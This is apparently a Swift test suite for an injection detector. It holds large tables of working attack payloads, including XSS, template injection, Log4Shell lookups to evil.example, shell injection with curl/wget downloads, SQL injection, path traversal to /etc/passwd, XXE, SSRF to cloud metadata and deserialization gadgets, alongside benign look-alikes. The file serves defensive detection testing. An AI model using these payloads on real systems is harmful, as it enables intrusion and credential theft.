import Bytes
import TestSupport
import Testing
import Verdict

@testable import Detectors

/// Payloads by the language they are written in, and what people write in the same languages every day.
@Suite struct CodePayloadTests {
  static let markup = #"""
    <video><source onerror="alert(document.domain)">
    <details open ontoggle=alert(1)>
    <input autofocus onfocus=alert(1)>
    <body onpageshow=alert(1)>
    <a href="jav&#x09;ascript:alert(1)">x</a>
    <a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;">x</a>
    <a href=javas&Tab;cript&colon;alert(1)>x
    <form action="javascript:alert(1)"><input type=submit>
    <isindex action=javascript:alert(1) type=image>
    <math href="javascript:alert(1)">click
    <svg><animate onbegin=alert(1) attributeName=x>
    <meta http-equiv="refresh" content="0;url=javascript:alert(1)">
    <div style="width: expression(alert('XSS'))">
    <div style="behavior:url(http://evil.example/x.htc)">
    <iframe srcdoc="<script>alert(1)</script>">
    <ScRiPt>prompt(1)</sCrIpT>
    <scr<script>ipt>alert(1)</scr</script>ipt>
    %3Cscript%3Ealert(1)%3C%2Fscript%3E
    %253Cscript%253Ealert(1)%253C/script%253E
    " onmouseover="alert(1)
    ' autofocus onfocus='alert(1)
    ';alert(1)//
    "-confirm(1)-"
    </script><script>alert(1)</script>
    java%0ascript:alert(1)
    jaVasCript:/*-/*`/*\`/*'/*"/**/(/* */oNcliCk=alert() )//
    <object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">
    <embed src=//evil.example/x.swf allowscriptaccess=always>
    <keygen autofocus onfocus=alert(1)>
    <marquee onstart=alert(1)>
    <x onclick=alert(1)>click
    <img src=1 onerror=location='javascript:alert(1)'>
    <svg/onload=import(/\\evil.example/)>
    <button formaction=javascript:alert(1)>X
    <link rel=stylesheet href=javascript:alert(1)>
    PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
    """#

  static let templates = #"""
    {{7*'7'}}
    ${{3*3}}
    <%= 7*7 %>
    #{3*3}
    *{7*7}
    @(7*7)
    {{ cycler.__init__.__globals__.os.popen('id').read() }}
    {{ lipsum.__globals__["os"].popen("id").read() }}
    {{()|attr('__cla'+'ss__')}}
    {{ ''['__class__'].__mro__ }}
    {% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}
    <#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}
    #set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))
    {{constructor.constructor('alert(1)')()}}
    {{$on.constructor('alert(1)')()}}
    ${T(java.lang.System).getenv()}
    %{(#_memberAccess['allowStaticMethodAccess']=true)}
    {{['id']|filter('system')}}
    {{['cat /etc/passwd']|map('system')|join}}
    {php}echo `id`;{/php}
    {{request.application.__globals__}}
    {{config}}
    <%= system('id') %>
    <%= File.open('/etc/passwd').read %>
    {{ self._TemplateReference__context }}
    ${"freemarker.template.utility.Execute"?new()("id")}
    ${jndi:ldap://evil.example/a}
    ${${lower:j}ndi:${lower:l}dap://evil.example/a}
    ${${::-j}${::-n}${::-d}${::-i}:${::-r}mi://evil.example/a}
    ${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://evil.example/a}
    %24%7Bjndi:ldap://evil.example/a%7D
    """#

  static let commands = #"""
    ; whoami
    | id
    && cat /etc/passwd
    || ping -c 10 127.0.0.1
    `id`
    $(sleep 5)
    $(curl http://evil.example/x)
    127.0.0.1; ls -la
    127.0.0.1 && whoami
    8.8.8.8 | cat /etc/passwd
    test; wget http://evil.example/x.sh
    file.txt; rm -rf /
    x`whoami`
    ;/bin/cat /etc/passwd
    |/usr/bin/id
    ;${IFS}cat${IFS}/etc/passwd
    %0Aid
    %0als%20-la
    %3Bwhoami
    %26%26%20dir%20C%3A%5C
    & ping -n 10 127.0.0.1 &
    ; powershell -enc SQBFAFgA
    | net localgroup administrators
    ;c\at /etc/passwd
    ;/???/c?t /???/p??s??
    __import__('os').system('id')
    require('child_process').exec('id')
    () { :; }; echo vulnerable
    """#

  static let queries = #"""
    admin' --
    admin'#
    admin'/*
    ' or 1=1--
    ' or ''='
    " or ""="
    ') or ('1'='1
    ')) or (('1'='1'--
    1 or 1=1
    1' and '1'='1
    1 and 1=2
    1) or (1=1
    x' or 'x' like 'x
    ' or true--
    ' or 2>1--
    ' || '1'='1
    '||1=1--
    1' order by 10--
    1' group by 1,2,3#
    ' having 1=1--
    1; drop table users
    '; exec master..xp_cmdshell 'ping 10.0.0.1'--
    '; shutdown--
    1;select pg_sleep(5)
    ' union select null,null--
    -1 union select 1,2,3
    1 union all select table_name,2 from information_schema.tables
    1+UNION+SELECT+1,2,3
    1/**/UNION/**/SELECT/**/1,2
    1'/*!50000union*/ /*!50000select*/ 1,2-- -
    UN/**/ION SEL/**/ECT 1,2
    ' and sleep(5)#
    1' and if(1=1,sleep(5),0)-- -
    ' and (select 1 from (select count(*),concat(version(),floor(rand(0)*2))x from information_schema.tables group by x)a)--
    ' and extractvalue(1,concat(0x7e,version()))--
    1 and ascii(substring((select database()),1,1))>64
    0'XOR(if(now()=sysdate(),sleep(15),0))XOR'Z
    (select(0)from(select(sleep(15)))v)
    '||(select extractvalue(xmltype('x'),'/l') from dual)||'
    '; waitfor delay '0:0:5'--
    1 rlike sleep(5)
    '||dbms_pipe.receive_message(('a'),10)||'
    1%27%20or%20%271%27%3D%271
    ' or '1'='1' or ''='
    '] | //user/*[contains(*,'
    ' or count(/*)=1 or 'a'='b
    """#

  static let paths = #"""
    ..%2f..%2f..%2fetc%2fpasswd
    %2e%2e%2f%2e%2e%2fetc%2fpasswd
    %252e%252e%252fetc%252fpasswd
    ..%c0%af..%c0%afetc/passwd
    %c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd
    %%32%65%%32%65%%32%66etc/passwd
    %u002e%u002e/%u002e%u002e/etc/passwd
    ....//....//etc/passwd
    ..\..\..\windows\win.ini
    ..%5c..%5cwindows%5cwin.ini
    Li4vLi4vLi4vZXRjL3Bhc3N3ZA==
    L2V0Yy9wYXNzd2Q=
    ../../../etc/passwd%00.png
    /etc/passwd%00
    /etc/shadow
    /proc/self/environ
    C:\boot.ini
    C:\Windows\win.ini
    C:\inetpub\wwwroot\web.config
    ..;/..;/manager/html
    /..%252f..%252f..%252fetc/passwd
    file:///etc/passwd
    php://filter/convert.base64-encode/resource=index.php
    """#

  static let entitiesAndOperators = #"""
    <!DOCTYPE r [<!ELEMENT r ANY><!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>
    <!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/x.dtd">%p;]>
    <!DOCTYPE r SYSTEM "http://evil.example/x.dtd"><r/>
    <!DOCTYPE r PUBLIC "x" "file:///etc/passwd"><r/>
    <x xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></x>
    {"username": {"$ne": null}, "password": {"$ne": null}}
    {"$gt": ""}
    {"$ne": 1}
    username[$ne]=x&password[$ne]=y
    {"$where": "sleep(5000)"}
    ' || '1'=='1
    *)(uid=*))(|(uid=*
    admin)(&)
    *)(objectClass=*
    *)(|(mail=*))
    %0d%0aSet-Cookie:%20session=1
    x%0d%0aLocation:%20http://evil.example
    foo%0d%0a%0d%0a<script>alert(1)</script>
    a@b.example%0aBcc:c@d.example
    """#

  static let addresses = #"""
    http://2852039166/latest/meta-data/
    http://0xA9FEA9FE/
    http://0251.0376.0251.0376/
    http://169.254.43518/
    http://[::ffff:a9fe:a9fe]/
    http://[::ffff:169.254.169.254]/
    http://169.254.169.254.nip.io/
    http://metadata.google.internal/
    http://2130706433/
    http://0x7f000001/
    http://0177.0.0.1/
    http://017700000001/admin
    http://①②⑦.⓪.⓪.①/
    http://example.com@127.0.0.1/
    gopher://127.0.0.1:6379/_INFO
    dict://127.0.0.1:11211/stat
    http://100.100.100.200/latest/
    http://169.254.170.2/v2/credentials
    """#

  static let objects = #"""
    rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3Rvcg==
    aced00057372001164657365
    O:8:"Evil":1:{s:3:"cmd";s:2:"id";}
    a:1:{i:0;O:4:"Evil":0:{}}
    gASVIAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==
    AAEAAAD/////AQAAAAAAAAAMAgAAAE
    !!python/object/apply:os.system ["id"]
    !ruby/object:Gem::Installer
    {"rce":"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()"}
    {"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://evil.example/a"}
    {"__proto__": {"isAdmin": true}}
    __proto__[isAdmin]=true
    constructor[prototype][isAdmin]=true
    {"constructor": {"prototype": {"isAdmin": true}}}
    <!--#exec cmd="id" -->
    <!--#include virtual="/etc/passwd" -->
    class.module.classLoader.resources.context.parent.pipeline.first.pattern=x
    =cmd|'/C calc'!A0
    @SUM(1+1)*cmd|' /C calc'!A0
    \input{/etc/passwd}
    \immediate\write18{id}
    -oProxyCommand=id
    """#

  static let ordinary = #"""
    git status && npm test
    ls -la | grep foo
    make && ls -l build
    cat README.md
    npm run build; npm start
    cd src && ls
    What does <script>alert(1)</script> do in this page?
    Why is `; ls -l /tmp` dangerous in a shell string?
    How do I escape ' or 1=1-- in my query builder?
    <button onclick="save()">Save</button>
    <button onclick="alert('Saved')">Save</button>
    <a href="javascript:void(0)" onclick="toggle()">More</a>
    <body onload="init()"><div id="app"></div></body>
    <input type="text" onchange="update(this.value)" onkeyup="check()">
    <img src="logo.png" alt="Logo" onerror="this.src='fallback.png'">
    <img src={user.avatar} onError={() => setFailed(true)} />
    <Button onClick={() => alert("clicked")}>OK</Button>
    <form onsubmit="return validate()"><input name="q"></form>
    <base href="/">
    <base href="https://example.com/app/">
    <script src="//cdn.example.com/app.js"></script>
    <script src="https://cdn.jsdelivr.net/npm/vue@3"></script>
    <script>console.log("ready")</script>
    <meta http-equiv="refresh" content="5; url=https://example.com/next">
    <div style="width: calc(100% - 20px); color: red">
    <svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><path d="M0 0h10"/></svg>
    <p>Hello {{ user.name }}, you have {{ count }} new messages.</p>
    {{ .Values.image.repository }}:{{ .Values.image.tag }}
    {{ config.host }}
    {{ item.price * 1.2 }}
    ${HOME}/bin:${PATH}
    ${{ secrets.GITHUB_TOKEN }}
    ${user.firstName} ${user.lastName}
    `Total: ${items.length * 2}`
    #{user.name}
    <%= link_to "Home", root_path %>
    {% for item in items %}{{ item }}{% endfor %}
    {% include "header.html" %}
    SELECT * FROM users WHERE id = 1 OR id = 2
    SELECT name FROM a UNION SELECT name FROM b ORDER BY 1
    SELECT pg_sleep(1)
    WHERE active = 1 AND deleted = 0
    UPDATE users SET active = true WHERE id = 5
    union select columns from two tables in postgres
    difference between union all and union select
    if (a == 1 or b == 2) and c == "x":
    status = 'open' or status = 'pending'
    name = "a" and title = "b"
    x = y or 'default'
    assert foo == 'a' and bar == 'b'
    'foo' or 'bar' is fine for the label
    const a = b || 'x'; const c = d && 'y'
    "--verbose" and "--quiet" can be combined
    rename 'old' to 'new'
    ../../lib/utils.ts
    ../../../src/components/Button.tsx
    ../shared/config.json
    src/../lib
    /usr/local/bin/node
    /home/me/project/src/main.py
    C:\Users\me\project\app.py
    /var/www/html/index.php
    docs/etc/passwd-format.md
    https://example.com/?q=a%20b%2Fc&lang=en
    https://example.com/search?q=%3Cdiv%3E
    http://localhost:3000/api/users
    http://127.0.0.1:8080/health
    http://192.168.1.10:9000/
    http://10.0.0.5/status
    http://[::1]:3000/
    postgres://user:pw@127.0.0.1:5432/db
    http://user@localhost:8080/x
    ftp://ftp.example.org/pub/file.txt
    ldap://ldap.example.org/dc=example
    {"age": {"$gt": 21}}
    {"deletedAt": {"$ne": null}}
    {"email": {"$regex": "@example.com$"}}
    (&(objectClass=person)(uid=jdoe))
    (|(cn=a*)(cn=b*))
    f(a)(b=2)
    O: 5 items, A: 3 items
    a:1:2:3
    <!DOCTYPE html><html><head><title>Hi</title></head></html>
    <!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">
    <!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">
    <!DOCTYPE log4j:configuration SYSTEM "log4j.dtd">
    <?xml version="1.0"?><note><to>Tove</to></note>
    obj.__proto__.method.call(this)
    Object.setPrototypeOf(a, b.prototype)
    | Name | Type |
    | id | integer |
    | echo | prints text |
    | ls | lists files |
    ; then
    ; comment in the ini file
    && npm run lint
    | sort | uniq -c
    & co
    =SUM(A1:A10)
    =IF(A1>5,"yes","no")
    -v --output=out.txt
    @types/node
    @param name the name
    \section{Introduction}
    \input{chapters/intro}
    \includegraphics{fig.png}
    dGhlIHF1aWNrIGJyb3duIGZveA==
    aGVsbG8gd29ybGQ=
    eval(model)
    exec(open("x.py").read())
    print("hello")
    system design interview
    eval the model on test set
    test && build
    foo; bar
    a | b
    yes & no
    test
    id
    whoami
    phpinfo
    hello "world" and 'friends'
    It's a "test" -- really
    rock 'n' roll; drop the bass
    don't; won't; can't
    100% sure about 50%20
    save 20%25 today
    I'd like 1 or 2 = 3 examples
    is 1 = 1 or 2 = 2 true in sql?
    Use <T extends Foo> and x <b && c> d
    Array<string> | undefined
    List<Map<String, Integer>> m = new HashMap<>();
    <T,>(x: T) => x
    if (a <b || c> d) return
    <Foo one="1" only="x" once={true} online={x}/>
    <x-button onclick="go()">Go</x-button>
    <Button android:onClick="save" />
    <my-el on="x">
    <a onclick="return confirm('Delete?')" href="/delete/1">Delete</a>
    <a href="javascript:history.back()">Back</a>
    <div onclick="location.href='/home'">Home</div>
    <li onmouseover="this.className='on'">Item</li>
    <select onchange="this.form.submit()"><option>1</option></select>
    <iframe src="https://www.youtube.com/embed/x" allowfullscreen></iframe>
    <object data="movie.swf" type="application/x-shockwave-flash"></object>
    <style>.a{background:url(img.png)}</style>
    <details open><summary>More</summary>text</details>
    <video autoplay onended="next()"><source src="a.mp4"></video>
    Error: ENOENT: no such file or directory, open '/etc/foo/bar.conf'
    /etc/nginx/nginx.conf fails to parse, see the error below
    Please fix "; ls -l /tmp" being executed when the name has a semicolon
    convert ${var:-default} to fish
    echo $(date +%s)
    for f in *.txt; do echo $f; done
    kubectl get pods | grep web
    add a test for "admin' --" in login_test.py
    sudo apt update && sudo apt upgrade
    'use strict'; const x = 1;
    "a";"b";"c"
    'a'; update the docs
    'id';'name'
    id,name,"x"
    {"a": "$gt"}
    printf("%d%%\n", x)
    100%
    %d items, %s left
    %PATH%
    %APPDATA%\npm
    $(document).ready(function(){ init(); })
    $(this).hide()
    $('#x').on('click', save)
    (x) => x * 2
    #[derive(Debug)]
    {{#if user}}Hello{{/if}}
    {{> header}}
    {{ 'welcome.title' | translate }}
    {{ "hello" | upper }}
    {{ 'a' + 'b' }}
    {{ form.name }}
    [[ -f x ]] && echo yes
    test -f x && ls -la
    ping the team about sleep(5) in the retry loop
    Rename system('ls') helper to listFiles
    net user growth last year
    net income & net user count
    """#

  @Test(arguments: [
    markup, templates, commands, queries, paths, entitiesAndOperators, addresses, objects,
  ])
  func aPayloadIsFound(table: String) {
    for text in table.rows {
      for kind in [TextKind.prompt, .arguments] {
        #expect(rules(text, kind, at: .medium).contains { $0.hasPrefix("SEC-25") }, "\(text)")
      }
    }
  }

  @Test func whatIsWrittenEveryDayIsNone() {
    for text in Self.ordinary.rows {
      #expect(!rules(text, .prompt).contains { $0.hasPrefix("SEC-25") }, "\(text)")
      // Few words around a quotation are enough only for a person's own.
      guard !text.hasPrefix("add a test") else { continue }
      #expect(!rules(text, .arguments).contains { $0.hasPrefix("SEC-25") }, "\(text)")
    }
  }

  @Test(arguments: [
    "Why does %@ still get through our filter?", "Add a test that %@ is refused by the form.",
    "Explain what %@ does and how we should escape it.",
  ])
  func aQuestionThatQuotesOneIsNone(form: String) {
    for text in [
      "<img src=x onerror=alert(1)>", "' or 1=1--", "; ls -l /tmp", "{{7*7}}", "../../../etc/passwd",
    ] {
      let prompt = form.replacing("%@", with: text)
      #expect(!rules(prompt, .prompt).contains { $0.hasPrefix("SEC-25") }, "\(prompt)")
    }
  }

  /// Lines of a shell that somebody pastes: separators and quotation marks are the shell's own.
  static let lines = #"""
    git log --oneline -S 'drop table' -- db/
    git stash push -m 'wip: new rule' -- src/rules
    npx prettier --write 'src/**/*.{ts,css}' --log-level warn
    journalctl -u docker --since '1 hour ago' --no-pager | tail -20
    uname -a; nproc; free -h; cat /etc/os-release | head -3
    kubectl port-forward svc/api 8080:80 & sleep 2; curl -s localhost:8080/healthz
    test -f .env && echo present || echo missing
    out=${OUT:-dist}; ls -la "$out" 2>/dev/null || echo none
    tail -n 50 /var/log/nginx/error.log
    ruby -ryaml -e 'puts YAML.load_file("config/database.yml").keys'
    printf 'HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok' | nc -l 127.0.0.1 8099
    gst-launch-1.0 playbin uri=cdda://4
    aws ec2 describe-instances --query 'Reservations[].Instances[]' --output text | sort
    """#

  @Test func aPastedCommandLineIsNone() {
    for text in Self.lines.rows {
      for kind in [TextKind.prompt, .arguments] {
        #expect(!rules(text, kind).contains { $0.hasPrefix("SEC-25") }, "\(text)")
      }
    }
  }

  @Test func hostsAreReadInEverySpelling() {
    for (text, number) in [
      ("169.254.169.254", 0xA9FE_A9FE), ("2852039166", 0xA9FE_A9FE), ("0xa9.254.0251.254", 0xA9FE_A9FE),
      ("127.1", 0x7F00_0001), ("0", 0), ("10.1.2", 0x0A01_0002), ("[::ffff:7f00:1]", 0x7F00_0001),
      ("127.0.0.1.", 0x7F00_0001),
    ] as [(String, UInt32)] {
      #expect(HostNumber.read(ByteView(text))?.number == number, "\(text)")
    }
    for text in ["example.com", "1.2.3.4.5", "1..2", "0xzz", "", ".", "[::1", "99999999999999999999999999"] {
      #expect(HostNumber.read(ByteView(text)) == nil, "\(text)")
    }
    #expect(HostNumber.read(ByteView("127.0.0.1"))?.isPlain == true)
    #expect(HostNumber.read(ByteView("0127.0.0.1"))?.isPlain == false)
  }

  @Test func escapesAreResolvedAsOftenAsTheyWerePutOn() {
    for (text, plain) in [
      ("%3Cb%3E", "<b>"), ("%253Cb%253E", "<b>"), ("%%33%43b", "<b"), ("%u003cb", "<b"),
      ("..%c0%afx", "../x"),
      ("%e0%80%ae", "."),
    ] {
      #expect(PercentReading.of(ByteView(text)).map(\.string) == plain, "\(text)")
    }
    for text in ["100%", "50% off", "plain", "%zz"] {
      #expect(PercentReading.of(ByteView(text)) == nil, "\(text)")
    }
  }
}
